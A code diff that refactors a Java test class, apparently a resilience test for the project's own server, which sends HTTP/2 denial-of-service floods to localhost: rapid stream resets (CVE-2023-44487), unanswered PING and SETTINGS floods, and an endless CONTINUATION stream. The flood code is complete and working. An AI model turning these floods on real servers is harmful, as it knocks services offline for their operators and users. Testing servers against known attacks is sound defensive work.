@@ -1,13 +1,11 @@
 package io.rayoperator.testing.hostile;
 
 import java.io.BufferedOutputStream;
-import java.io.ByteArrayOutputStream;
-import java.io.DataOutputStream;
 import java.io.IOException;
 import java.net.Socket;
 import java.net.SocketTimeoutException;
-import java.nio.charset.StandardCharsets;
 import java.util.Map;
+import java.util.TreeMap;
 
 /** Frames of HTTP/2 (RFC 9113) that cost the client nothing, until the server has enough. */
 final class Http2Flood {
@@ -22,55 +20,49 @@ final class Http2Flood {
   private static final int END_HEADERS = 4;
   private static final byte[] CANCEL = {0, 0, 0, 8};
 
+  /** Those with a colon sort first, as they have to. */
   private static final Map<String, String> REQUEST =
-      Map.of(
-          ":method", "POST",
-          ":scheme", "https",
-          ":authority", "127.0.0.1",
-          ":path", "/convert",
-          "content-type", "application/json");
+      new TreeMap<>(
+          Map.of(
+              ":method", "POST",
+              ":scheme", "https",
+              ":authority", "127.0.0.1",
+              ":path", "/convert",
+              "content-type", "application/json"));
 
-  private final DataOutputStream out;
-
-  private Http2Flood(Socket socket) throws IOException {
-    out = new DataOutputStream(new BufferedOutputStream(socket.getOutputStream(), BUFFER));
-    out.write("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
-    frame(SETTINGS, 0, 0, new byte[0]);
-    out.flush();
-  }
+  private Http2Flood() {}
 
   /** Begins requests, and resets each at once (CVE-2023-44487). */
   static String resets(Socket socket, int count) throws IOException {
     return flood(
         socket,
         flood -> {
-          byte[] headers = headers(REQUEST);
+          byte[] headers = Http2Frames.headers(REQUEST);
           for (int i = 0; i < count; i++) {
             int stream = 2 * i + 1;
-            flood.frame(HEADERS, END_HEADERS, stream, headers);
-            flood.frame(RST_STREAM, 0, stream, CANCEL);
+            flood.send(HEADERS, END_HEADERS, stream, headers);
+            flood.send(RST_STREAM, 0, stream, CANCEL);
           }
         });
   }
 
   /** Asks for answers to pings, and reads none meanwhile (CVE-2019-9512). */
   static String pings(Socket socket, int count) throws IOException {
-    return flood(
-        socket,
-        flood -> {
-          for (int i = 0; i < count; i++) {
-            flood.frame(PING, 0, 0, new byte[8]);
-          }
-        });
+    return unread(socket, count, PING, new byte[8]);
   }
 
   /** Asks for acknowledgements of settings, and reads none meanwhile (CVE-2019-9515). */
   static String settings(Socket socket, int count) throws IOException {
+    return unread(socket, count, SETTINGS, new byte[0]);
+  }
+
+  private static String unread(Socket socket, int count, int type, byte[] payload)
+      throws IOException {
     return flood(
         socket,
         flood -> {
           for (int i = 0; i < count; i++) {
-            flood.frame(SETTINGS, 0, 0, new byte[0]);
+            flood.send(type, 0, 0, payload);
           }
         });
   }
@@ -80,25 +72,29 @@ final class Http2Flood {
     return flood(
         socket,
         flood -> {
-          flood.frame(HEADERS, 0, 1, headers(REQUEST));
-          byte[] more = headers(Map.of("x-more", "y".repeat(100)));
+          flood.send(HEADERS, 0, 1, Http2Frames.headers(REQUEST));
+          byte[] more = Http2Frames.headers(Map.of("x-more", "y".repeat(100)));
           for (int i = 0; i < count; i++) {
-            flood.frame(CONTINUATION, 0, 1, more);
+            flood.send(CONTINUATION, 0, 1, more);
           }
         });
   }
 
   @FunctionalInterface
   private interface Frames {
-    void send(Http2Flood flood) throws IOException;
+    void send(Http2Frames flood) throws IOException;
   }
 
   private static String flood(Socket socket, Frames frames) throws IOException {
     try (socket) {
-      Http2Flood flood = new Http2Flood(socket);
+      Http2Frames flood =
+          new Http2Frames(new BufferedOutputStream(socket.getOutputStream(), BUFFER));
+      flood.sendPreface();
+      flood.send(SETTINGS, 0, 0, new byte[0]);
+      flood.flush();
       try {
         frames.send(flood);
-        flood.out.flush();
+        flood.flush();
       } catch (IOException e) {
         return Ending.ENDED;
       }
@@ -120,30 +116,5 @@ final class Http2Flood {
     } catch (IOException e) {
       return true;
     }
-  }
-
-  private void frame(int type, int flags, int stream, byte[] payload) throws IOException {
-    out.writeByte(payload.length >> 16);
-    out.writeShort(payload.length);
-    out.writeByte(type);
-    out.writeByte(flags);
-    out.writeInt(stream);
-    out.write(payload);
-  }
-
-  /** Literals without a table and without Huffman's code (RFC 7541, section 6.2.2). */
-  private static byte[] headers(Map<String, String> fields) {
-    ByteArrayOutputStream block = new ByteArrayOutputStream();
-    fields.entrySet().stream()
-        .sorted(Map.Entry.comparingByKey()) // those with a colon have to stand first
-        .forEach(
-            field -> {
-              block.write(0);
-              for (String text : new String[] {field.getKey(), field.getValue()}) {
-                block.write(text.length());
-                block.writeBytes(text.getBytes(StandardCharsets.US_ASCII));
-              }
-            });
-    return block.toByteArray();
   }
 }
